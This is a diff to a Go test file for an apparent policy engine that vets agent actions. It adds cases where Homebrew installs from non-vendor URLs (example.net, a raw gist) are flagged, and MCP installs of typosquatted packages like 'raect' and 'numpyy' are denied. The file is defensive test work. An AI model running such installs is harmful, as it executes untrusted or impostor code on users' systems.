@@ -115,3 +115,36 @@ func TestFloor7BulkDeleteAndRedis(t *testing.T) {
 		})
 	}
 }
+
+// TestFloor7PackageSources: code installed from where the vendor does not publish it — a
+// Homebrew formula or cask handed as a URL, or through an MCP package tool a name one slip
+// from a popular package — is high (docs/policy.md: code fetched from hosts that are not
+// the vendor's own; typosquatted packages).
+func TestFloor7PackageSources(t *testing.T) {
+	runRoutineCases(t, []routineCase{
+		{src: "brew install https://example.net/formulae/jq.rb", want: Ask, rule: "pkg.untrusted-source", source: "brew install URL"},
+		{src: "brew reinstall --cask https://gist.githubusercontent.com/a/1/raw/app.rb", want: Ask, rule: "pkg.untrusted-source", source: "brew cask URL"},
+		{src: "brew install --cask iterm2", want: Allow, source: "routine: Homebrew's own cask"},
+	})
+	a, err := New(Policy{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	cases := []struct {
+		req  string
+		want Decision
+	}{
+		{`{"server":"npm-tools","tool":"install_package","arguments":{"name":"raect"}}`, Deny},
+		{`{"server":"pypi","tool":"add_dependency","arguments":{"package":"numpyy"}}`, Deny},
+		{`{"server":"npm-tools","tool":"install_package","arguments":{"name":"react"}}`, Ask},
+		{`{"server":"npm-tools","tool":"get_package_info","arguments":{"name":"raect"}}`, Allow},
+	}
+	for _, tc := range cases {
+		t.Run(tc.req, func(t *testing.T) {
+			v := a.MCP(context.Background(), mcpReq(t, tc.req))
+			if v.Decision != tc.want {
+				t.Errorf("decision = %s (rules %v), want %s", v.Decision, ruleIDs(v), tc.want)
+			}
+		})
+	}
+}
